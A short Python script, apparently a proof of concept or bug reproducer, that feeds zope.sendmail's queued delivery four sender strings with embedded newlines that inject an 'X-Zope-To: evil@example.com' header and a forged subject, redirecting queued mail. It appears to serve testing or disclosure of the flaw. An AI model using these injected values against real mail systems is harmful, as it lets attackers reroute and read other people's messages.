"""Lets zope.sendmail queue messages whose sender somebody else chose."""
import sys

import transaction
from zope.sendmail.delivery import QueuedMailDelivery

delivery = QueuedMailDelivery(sys.argv[1])
for sender in (
    "a@example.org\nX-Zope-To: evil@example.com",
    "a@example.org\r\nX-Zope-To: evil@example.com",
    "a@example.org\nX-Zope-To: evil@example.com\n",
    "a@example.org\nX-Zope-To: evil@example.com\n\nSubject: all mine\n\n",
):
    transaction.begin()
    delivery.send(sender, ["real@example.net"], "Subject: s\n\nbody\n")
    transaction.commit()
